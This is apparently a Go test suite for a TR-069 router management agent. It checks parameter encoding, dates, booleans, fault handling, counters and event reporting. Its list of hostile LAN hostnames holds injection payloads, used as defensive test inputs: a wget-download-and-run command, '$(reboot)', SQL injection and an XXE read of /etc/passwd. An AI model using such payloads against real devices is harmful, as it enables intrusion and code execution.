package zoo

import (
	"bytes"
	"fmt"
	"math"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"gatehouse/lab/acs"
	"gatehouse/platform"
)

func values() []exhibit {
	return []exhibit{
		{24, "genieacs_317_value_element_for_an_empty_string", emptyValue},
		{25, "genieacs_76_control_bytes_from_the_lan", controlBytes},
		{25, "tp_181_localized_strings", localizedStrings},
		{26, "icwmp_date_and_time_in_every_spelling", dates},
		{26, "genieacs_boolean_literals", booleans},
		{29, "atp_5_58_the_same_parameter_twice", twice},
		{30, "icwmp_11847_nothing_is_applied_before_a_fault", nothingBeforeFault},
		{40, "obuspa_counters_beyond_2_53", bigCounters},
	}
}

// config is the configuration file as it is.
func (h *house) config() string {
	h.t.Helper()
	b, err := os.ReadFile(filepath.Join(h.dir, "gatehouse"))
	if err != nil {
		h.t.Fatal(err)
	}
	return string(b)
}

// crowd puts hosts on the LAN.
func crowd(h *house, n int) {
	var all []platform.Neighbor
	for i := range n {
		all = append(all, platform.Neighbor{
			Link: "br-lan", MAC: fmt.Sprintf("02:00:5e:00:%02x:%02x", i>>8, i&0xff),
			Addr: netip.AddrFrom4([4]byte{192, 168, byte(2 + i>>8), byte(i)}), Active: i%2 == 0, Hostname: fmt.Sprintf("host-%d", i),
		})
	}
	h.router.SetNeighbor(all...)
}

func emptyValue(t *testing.T) {
	story(t, plan{}, func(t *testing.T, h *house) {
		h.start()
		first := h.good(1)
		s := h.talk(func(c *acs.Conversation) error {
			_, err := c.GetParameterValues(di+"ProvisioningCode", ms+"Password", ms+"ParameterKey")
			return err
		})
		for _, x := range append(first.Exchanges, s.Exchanges...) {
			for _, member := range strings.Split(string(x.Body), "<ParameterValueStruct>")[1:] {
				if !strings.Contains(member, "<Value xsi:type=") || !strings.Contains(member, "</Value>") {
					t.Errorf("no whole Value in %q", member)
				}
			}
		}
		if !bytes.Contains(s.Exchanges[2].Body, []byte(`<Value xsi:type="xsd:string"></Value>`)) {
			t.Errorf("no empty Value in %s", s.Exchanges[2].Body)
		}
	})
}

// localizedStrings: a value, a ParameterKey and a CommandKey come back as they
// were sent, also after a restart, whether of control characters (as far as XML
// has them) or of several bytes each.
func localizedStrings(t *testing.T) {
	for _, text := range []string{"\t\r\n\u007f\u0085", "Zürich Łódź Ελλάδα Москва 東京 \U0001F600"} {
		story(t, plan{}, func(t *testing.T, h *house) {
			h.router.OnReboot(func(bool) {})
			h.start()
			h.good(1)
			h.talk(func(c *acs.Conversation) error {
				if _, err := c.SetParameterValues(text, acs.P(di+"ProvisioningCode", "xsd:string", text)); err != nil {
					return err
				}
				if err := c.ScheduleInform(60, text); err != nil {
					return err
				}
				return c.Reboot(text)
			})
			h.boot()
			s := h.good(3)
			h.wantEvents(s, "1 BOOT", "M Reboot ["+text+"]")
			for _, name := range []string{ms + "ParameterKey", di + "ProvisioningCode"} {
				if got, _ := s.Inform.Parameters.Get(name); got != text {
					t.Errorf("%s is told as %q, want %q", name, got, text)
				}
			}
			h.wantEvents(h.good(4), "3 SCHEDULED", "M ScheduleInform ["+text+"]")
			h.talk(func(c *acs.Conversation) error {
				_, err := c.SetParameterValues(strings.Repeat("東", 32), acs.P(di+"ProvisioningCode", "xsd:string", strings.Repeat("é", 64)))
				return err
			})
			if got := h.get(ms + "ParameterKey"); got != strings.Repeat("東", 32) {
				t.Errorf("a key of 32 characters of three bytes is %q", got)
			}
		})
	}
}

// nasty are names that a host on the LAN may claim to have.
var nasty = []string{
	"\x00\x01\x02\x08\x0b\x0c\x1f", "]]>", "<>&'\"", "\xff\xfe\x80", "a\ufffe\uffffb", "\u0085\u2028", "tab\there", "line\nfeed\r",
	"`cd /tmp;wget http://203.0.113.66/2;chmod 777 2;./2`", "$(reboot)", "'; DROP TABLE hosts;--", "%s%n%x", "\U0001F600 \u202e",
	"<!ENTITY x SYSTEM \"file:///etc/passwd\">&x;", strings.Repeat("a", 300), strings.Repeat("ä", 64),
}

// controlBytes: whatever a host calls itself, the envelope is well-formed, the
// limit of the parameter holds, and what XML can carry arrives as it is.
func controlBytes(t *testing.T) {
	story(t, plan{}, func(t *testing.T, h *house) {
		for i, name := range nasty {
			h.router.SetNeighbor(platform.Neighbor{Link: "br-lan", MAC: fmt.Sprintf("02:00:5e:00:00:%02x", i), Addr: netip.AddrFrom4([4]byte{192, 168, 1, byte(100 + i)}), Hostname: name})
		}
		h.router.SetHostname("]]>\x01\xff<&")
		h.start()
		h.good(1)
		h.talk(func(c *acs.Conversation) error {
			v, err := c.GetParameterValues("Device.Hosts.")
			if err != nil {
				return err
			}
			got := map[string]string{}
			for _, p := range v {
				if mac, ok := v.Get(strings.TrimSuffix(p.Name, "HostName") + "PhysAddress"); ok {
					got[strings.ToLower(mac)] = p.Value
				}
				if strings.HasSuffix(p.Name, ".HostName") && len([]rune(p.Value)) > 64 {
					t.Errorf("%s has %d characters", p.Name, len([]rune(p.Value)))
				}
			}
			for i, name := range nasty {
				value, ok := got[fmt.Sprintf("02:00:5e:00:00:%02x", i)]
				if plain := utf8.ValidString(name) && !strings.ContainsAny(name, "\x00\ufffe") && len(name) < 64; !ok || plain && value != name {
					t.Errorf("%q is read as %q, %t", name, value, ok)
				}
			}
			_, err = c.GetParameterValues("Device.")
			return err
		})
	})
}

var dates = within(func(t *testing.T, h *house, c *acs.Conversation) error {
	const name = ms + "PeriodicInformTime"
	for in, out := range map[string]string{
		"2026-11-21T23:00:00Z":          "2026-11-21T23:00:00Z",
		"2026-11-21T23:00:00.123Z":      "2026-11-21T23:00:00",
		"2026-11-21T23:00:00.000Z":      "2026-11-21T23:00:00Z",
		"2026-11-22T01:00:00+02:00":     "2026-11-21T23:00:00Z",
		"2026-11-21T23:00:00.123456789": "2026-11-21T23:00:00",
		"0001-01-01T00:00:00Z":          "0001-01-01T00:00:00Z",
		"9999-12-31T23:59:59Z":          "9999-12-31T23:59:59Z",
	} {
		if _, err := c.SetParameterValues("", acs.P(name, "xsd:dateTime", in)); err != nil {
			t.Errorf("%s: %v", in, err)
			continue
		}
		v, err := c.GetParameterValues(name)
		if err != nil {
			return err
		}
		if !strings.HasPrefix(v[0].Value, strings.TrimSuffix(out, "Z")) {
			t.Errorf("%s is read as %s", in, v[0].Value)
		}
	}
	for _, bad := range []string{"yesterday", "2026-13-01T00:00:00Z", "2026-11-21", ""} {
		_, err := c.SetParameterValues("", acs.P(name, "xsd:dateTime", bad))
		wantParam(t, err, 9006, 9007)
	}
	return nil
})

var booleans = within(func(t *testing.T, h *house, c *acs.Conversation) error {
	const name = ms + "PeriodicInformEnable"
	for _, in := range []string{"1", "0", "true", "false", "True", "FALSE"} {
		if _, err := c.SetParameterValues("", acs.P(name, "xsd:boolean", in)); err != nil {
			t.Errorf("%s: %v", in, err)
			continue
		}
		v, err := c.GetParameterValues(name)
		if err != nil {
			return err
		}
		want := in == "1" || strings.EqualFold(in, "true")
		if got := v[0].Value == "1" || v[0].Value == "true"; got != want {
			t.Errorf("%s is read as %s", in, v[0].Value)
		}
	}
	_, err := c.SetParameterValues("", acs.P(name, "xsd:boolean", "maybe"))
	wantParam(t, err, 9006, 9007)
	return nil
})

var twice = within(func(t *testing.T, h *house, c *acs.Conversation) error {
	if _, err := c.SetParameterValues("before"); err != nil {
		return err
	}
	const name = di + "ProvisioningCode"
	_, err := c.SetParameterValues("after", acs.P(name, "xsd:string", "a"), acs.P(ms+"Username", "xsd:string", "eve"), acs.P(name, "xsd:string", "b"))
	wantFault(t, "the same twice", err, 9003)
	v, err := c.GetParameterValues(name, ms+"Username", ms+"ParameterKey")
	if code, _ := v.Get(name); code != "" {
		t.Errorf("ProvisioningCode %q", code)
	}
	if u, _ := v.Get(ms + "Username"); u != user {
		t.Errorf("Username %q", u)
	}
	if key, _ := v.Get(ms + "ParameterKey"); key != "before" {
		t.Errorf("ParameterKey %q", key)
	}
	return err
})

// nothingBeforeFault: the router is not touched by a call of which one part is bad.
var nothingBeforeFault = within(func(t *testing.T, h *house, c *acs.Conversation) error {
	link, err := linkPath(c, "eth1")
	if err != nil {
		return err
	}
	before := h.router.Commits()
	_, err = c.SetParameterValues("", acs.P(link+"Enable", "xsd:boolean", "0"), acs.P(ms+"PeriodicInformInterval", "xsd:unsignedInt", "0"))
	wantFault(t, "a bad one among good ones", err, 9003)
	if h.router.Commits() != before {
		t.Error("the router was touched")
	}
	if _, err := c.SetParameterValues("", acs.P(link+"Enable", "xsd:boolean", "0")); err != nil {
		return err
	}
	if h.router.Commits() != before+1 { // easycwmp_295: accepted, and nothing happens
		t.Error("the router was not touched")
	}
	return nil
})

// linkPath finds the Ethernet interface with this name.
func linkPath(c *acs.Conversation, name string) (string, error) {
	v, err := c.GetParameterValues("Device.Ethernet.Interface.")
	for _, p := range v {
		if path, ok := strings.CutSuffix(p.Name, "Name"); ok && p.Value == name && strings.Count(path, ".") == 4 {
			return path, nil
		}
	}
	return "", fmt.Errorf("no interface %s: %w", name, err)
}

func bigCounters(t *testing.T) {
	story(t, plan{}, func(t *testing.T, h *house) {
		sent, received := uint64(math.MaxUint64), uint64(1)<<53+1
		h.router.EditLink("eth1", func(l *platform.Link) { l.Stats.BytesSent, l.Stats.BytesReceived = sent, received })
		h.start()
		h.good(1)
		h.talk(func(c *acs.Conversation) error {
			link, err := linkPath(c, "eth1")
			if err != nil {
				return err
			}
			v, err := c.GetParameterValues(link+"Stats.BytesSent", link+"Stats.BytesReceived")
			if err != nil {
				return err
			}
			if v[0].Value != fmt.Sprint(sent) || v[1].Value != fmt.Sprint(received) || v[0].Type != "xsd:unsignedLong" {
				t.Errorf("read %v", v)
			}
			if got := h.get(link + "Stats.BytesReceived"); got != fmt.Sprint(received) { // a string in JSON, too
				t.Errorf("at the other door %s", got)
			}
			return nil
		})
	})
}

func lives() []exhibit {
	return []exhibit{
		{32, "netsecinfo_2008_instance_numbers_and_keys_over_reboots", numbers},
		{34, "icwmp_9354_bootstrap_once", bootstrapOnce},
		{34, "rdkbdev_3369_m_reboot_once", rebootOnce},
		{34, "icwmp_8189_no_value_change_at_start", noValueChange},
		{34, "icwmp_11043_value_change_with_the_value_of_now", freshValue},
		{34, "icwmp_16478_value_change_at_all", valueChange},
	}
}

// numbers: a row keeps its number, a number is never given twice, an empty row
// is there after a restart, and so is the ParameterKey.
func numbers(t *testing.T) {
	const table = ms + "InformParameter."
	story(t, plan{}, func(t *testing.T, h *house) {
		h.start()
		h.good(1)
		var kept, gone uint32
		h.talk(func(c *acs.Conversation) (err error) {
			if kept, _, err = c.AddObject(table, ""); err != nil {
				return err
			}
			if gone, _, err = c.AddObject(table, ""); err != nil {
				return err
			}
			_, err = c.DeleteObject(fmt.Sprintf("%s%d.", table, gone), odd)
			return err
		})
		h.boot()
		h.good(3)
		h.talk(func(c *acs.Conversation) error {
			infos, err := c.GetParameterNames(table, true)
			if err != nil {
				return err
			}
			if len(infos) != 1 || infos[0].Name != fmt.Sprintf("%s%d.", table, kept) {
				t.Errorf("after the restart: %v", infos)
			}
			n, _, err := c.AddObject(table, "")
			if err != nil || n == kept || n == gone {
				t.Errorf("number %d after %d and %d, %v", n, kept, gone, err)
			}
			return nil
		})
		h.boot()
		s := h.good(5)
		if key, _ := s.Inform.Parameters.Get(ms + "ParameterKey"); key != "" { // of the last AddObject
			t.Errorf("ParameterKey %q", key)
		}
	})
}

func bootstrapOnce(t *testing.T) {
	story(t, plan{}, func(t *testing.T, h *house) {
		h.start()
		h.wantEvents(h.good(1), "0 BOOTSTRAP", "1 BOOT")
		for n := 2; n < 5; n++ {
			h.boot()
			h.wantEvents(h.good(n), "1 BOOT")
		}
		h.end()
		h.start() // the process alone: no boot
		h.none(4, time.Hour)
	})
}

func rebootOnce(t *testing.T) {
	story(t, plan{}, func(t *testing.T, h *house) {
		h.router.OnReboot(func(bool) {})
		h.acs.Queue("", func(c *acs.Conversation) error { return c.Reboot("key") })
		h.start()
		h.good(1)
		h.boot()
		h.wantEvents(h.good(2), "1 BOOT", "M Reboot [key]")
		h.knock()
		h.wantEvents(h.good(3), "6 CONNECTION REQUEST")
		h.boot()
		h.wantEvents(h.good(4), "1 BOOT")
	})
}

// noValueChange: what is as it was told is no news, not even after a restart.
func noValueChange(t *testing.T) {
	story(t, plan{}, func(t *testing.T, h *house) {
		h.acs.Queue("", func(c *acs.Conversation) error {
			return c.SetParameterAttributes(acs.Notify(di+"ProvisioningCode", 2), acs.Notify("Device.Ethernet.InterfaceNumberOfEntries", 2))
		})
		h.start()
		h.good(1)
		for n := 2; n < 4; n++ {
			h.boot()
			h.wantEvents(h.good(n), "1 BOOT")
		}
		h.none(3, 24*time.Hour)
	})
}

// watchLink asks for news of a link, in the first session.
func watchLink(h *house) *string {
	var path string
	h.acs.Queue("", func(c *acs.Conversation) error {
		link, err := linkPath(c, "eth1")
		if err != nil {
			return err
		}
		path = link + "Status"
		return c.SetParameterAttributes(acs.Notify(path, 2))
	})
	return &path
}

// freshValue: while the ACS is away the value changes again; told is what is
// true by then, once.
func freshValue(t *testing.T) {
	const hosts = "Device.Hosts.HostNumberOfEntries"
	story(t, plan{}, func(t *testing.T, h *house) {
		h.acs.Queue("", func(c *acs.Conversation) error { return c.SetParameterAttributes(acs.Notify(hosts, 2)) })
		h.start()
		h.good(1)
		h.acs.SetChaos(acs.Chaos{Inform: acs.Trouble{Status: 503, Times: 1}})
		crowd(h, 1)
		if v, _ := h.session(2).Inform.Parameters.Get(hosts); v != "4" {
			t.Errorf("first told %q", v)
		}
		crowd(h, 2)
		s := h.good(3)
		if v, _ := s.Inform.Parameters.Get(hosts); v != "5" {
			t.Errorf("told %q", v)
		}
		h.wantEvents(s, "4 VALUE CHANGE")
		h.none(3, time.Hour)
	})
}

func valueChange(t *testing.T) {
	story(t, plan{}, func(t *testing.T, h *house) {
		path := watchLink(h)
		h.start()
		h.good(1)
		for i, up := range []bool{false, true, false} {
			h.router.SetLink("eth1", up)
			s := h.good(i + 2)
			want := map[bool]string{true: "Up", false: "Down"}[up]
			if v, _ := s.Inform.Parameters.Get(*path); v != want {
				t.Errorf("told %q, want %q", v, want)
			}
			h.wantEvents(s, "4 VALUE CHANGE")
		}
	})
}
